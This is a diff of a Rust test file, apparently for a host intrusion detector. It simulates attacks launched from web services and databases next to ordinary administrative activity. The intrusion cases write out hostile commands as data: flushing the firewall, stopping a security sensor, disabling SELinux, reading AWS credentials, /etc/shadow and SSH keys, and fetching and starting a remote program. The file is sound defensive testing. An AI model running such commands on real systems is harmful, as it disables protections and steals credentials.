@@ -1,6 +1,7 @@
 //! What happens below a network service: intruders who need no connection of their own, and applications that administer
 //! the host.
 
+use super::operations::steps::{fetch, fetch_and_start, run};
 use crate::{
     model::{ProcessKey, Verdict},
     testing::{Host, alerts, story, verdict},
@@ -13,15 +14,6 @@ fn host() -> (Host, ProcessKey) {
     let mut host = Host::new();
     let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
     (host, init)
-}
-
-/// Runs commands one after the other below a process.
-fn run(host: &mut Host, parent: ProcessKey, commands: &[&str]) {
-    for command in commands {
-        let words: Vec<&str> = command.split(' ').collect();
-        let process = host.spawn(parent, &format!("/usr/bin/{}", words[0]), &words);
-        host.exit(process);
-    }
 }
 
 /// A service whose shell runs a script that came with the request. Returns the shell.
@@ -67,34 +59,30 @@ const INTRUSIONS: [(&str, Work); 9] = [
     ("a job and an open firewall by a web application", |host, init| {
         let shell = commanded(host, init, PHP);
         host.create(shell, "/etc/cron.d/z", 0o644);
-        run(host, shell, &["iptables -F"]);
+        run(host, shell, "iptables -F");
     }),
     ("defences switched off by what a web application fetched", |host, init| {
         let bash = fed(host, init, PHP);
-        run(host, bash, &["systemctl stop falcon-sensor", "iptables -F", "setenforce 0"]);
+        run(host, bash, "systemctl stop falcon-sensor");
+        run(host, bash, "iptables -F");
+        run(host, bash, "setenforce 0");
     }),
     ("credentials looked for by what a database fetched", |host, init| {
         let bash = fed(host, init, REDIS);
-        run(host, bash, &["cat /root/.aws/credentials", "cat /etc/shadow", "find / -name id_rsa"]);
+        run(host, bash, "cat /root/.aws/credentials");
+        run(host, bash, "cat /etc/shadow");
+        run(host, bash, "find / -name id_rsa");
         host.write(bash, "/var/log/auth.log");
         host.create(bash, "/root/.ssh/authorized_keys", 0o600);
     }),
     ("a program in an ordinary place", |host, init| {
         let shell = commanded(host, init, REDIS);
-        let curl = host.spawn(shell, "/usr/bin/curl", &["curl", "-so", "/etc/kw", "http://198.51.100.66/kw"]);
-        host.connect(curl, "198.51.100.66:80");
-        host.create(curl, "/etc/kw", 0o644);
-        host.exit(curl);
-        host.chmod(shell, "/etc/kw", 0o755);
-        let program = host.spawn(shell, "/etc/kw", &["/etc/kw"]);
+        let program = fetch_and_start(host, shell, "http://198.51.100.66/kw", "/etc/kw", "198.51.100.66:80");
         host.connect(program, "198.51.100.66:443");
     }),
     ("a program moved to a place of the system", |host, init| {
         let shell = commanded(host, init, PHP);
-        let wget = host.spawn(shell, "/usr/bin/wget", &["wget", "-O", "/tmp/x", "http://cdn.example/x"]);
-        host.connect(wget, "198.51.100.66:80");
-        host.create(wget, "/tmp/x", 0o644);
-        host.exit(wget);
+        fetch(host, shell, "http://cdn.example/x", "/tmp/x", "198.51.100.66:80");
         host.rename(shell, "/tmp/x", "/usr/local/sbin/kaudited");
         host.chmod(shell, "/usr/local/sbin/kaudited", 0o755);
         let program = host.spawn(shell, "/usr/local/sbin/kaudited", &["kaudited"]);
@@ -114,7 +102,7 @@ fn intruders_are_found_below_services() {
 const USUAL: [(&str, Work); 6] = [
     ("a panel that writes a job for a customer", |host, init| {
         let shell = commanded(host, init, PHP);
-        run(host, shell, &["crontab -u web1 /srv/panel/jobs/web1"]);
+        run(host, shell, "crontab -u web1 /srv/panel/jobs/web1");
         host.create(shell, "/etc/cron.d/web1", 0o644);
     }),
     ("a forge that writes the keys of its users", |host, init| {
@@ -123,19 +111,17 @@ const USUAL: [(&str, Work); 6] = [
     }),
     ("a database that archives its log", |host, init| {
         let shell = commanded(host, init, "/usr/lib/postgresql/15/bin/postgres");
-        run(host, shell, &["test ! -f /srv/wal/1", "cp pg_wal/1 /srv/wal/1"]);
+        run(host, shell, "test ! -f /srv/wal/1");
+        run(host, shell, "cp pg_wal/1 /srv/wal/1");
     }),
     ("a database whose archiver reads its password", |host, init| {
         let shell = commanded(host, init, "/usr/lib/postgresql/15/bin/postgres");
-        run(host, shell, &["cat /var/lib/postgresql/.pgpass", "gzip -c pg_wal/1"]);
+        run(host, shell, "cat /var/lib/postgresql/.pgpass");
+        run(host, shell, "gzip -c pg_wal/1");
     }),
     ("a start script that fetches the server that it becomes", |host, init| {
         let script = host.spawn_script(init, "/usr/bin/bash", "/opt/app/start.sh");
-        let curl =
-            host.spawn(script, "/usr/bin/curl", &["curl", "-so", "/opt/app/bin/node", "https://n.example/n"]);
-        host.connect(curl, "198.51.100.7:443");
-        host.create(curl, "/opt/app/bin/node", 0o644);
-        host.exit(curl);
+        fetch(host, script, "https://n.example/n", "/opt/app/bin/node", "198.51.100.7:443");
         host.chmod(script, "/opt/app/bin/node", 0o755);
         host.exec(script, init, "/opt/app/bin/node", "/opt/app/bin/node", &["node", "server.js"]);
         host.connect(script, "198.51.100.7:443");
